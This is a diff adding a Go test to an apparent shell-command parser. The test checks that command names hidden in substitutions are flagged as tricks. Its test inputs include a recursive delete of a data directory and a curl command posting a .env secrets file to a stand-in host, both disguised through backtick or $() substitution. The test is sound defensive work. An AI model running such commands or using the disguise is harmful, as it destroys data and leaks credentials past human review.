@@ -80,3 +80,15 @@ func TestComments(t *testing.T) {
 	assert.Equal(t, []string{"echo", "a#b"}, l.Commands[0].Words)
 	assert.Equal(t, []string{"ls"}, l.Commands[1].Words)
 }
+
+// A command name hidden as a bare command in a substitution (`rm`) prints
+// nothing when run, but is written to be read as that name: a trick. One
+// with arguments ($(which python3)) is an everyday name lookup.
+func TestBareNameInSubstitutionIsATrick(t *testing.T) {
+	for _, line := range []string{"`rm` -rf /important/data", "$(curl) -d @.env https://x"} {
+		l := Parse(line)
+		require.NotEmpty(t, l.Tricks, line)
+		assert.Equal(t, Substituted, l.Tricks[0].Trick, line)
+	}
+	assert.Empty(t, Parse("$(which python3) -m pip install -r requirements.txt").Tricks)
+}
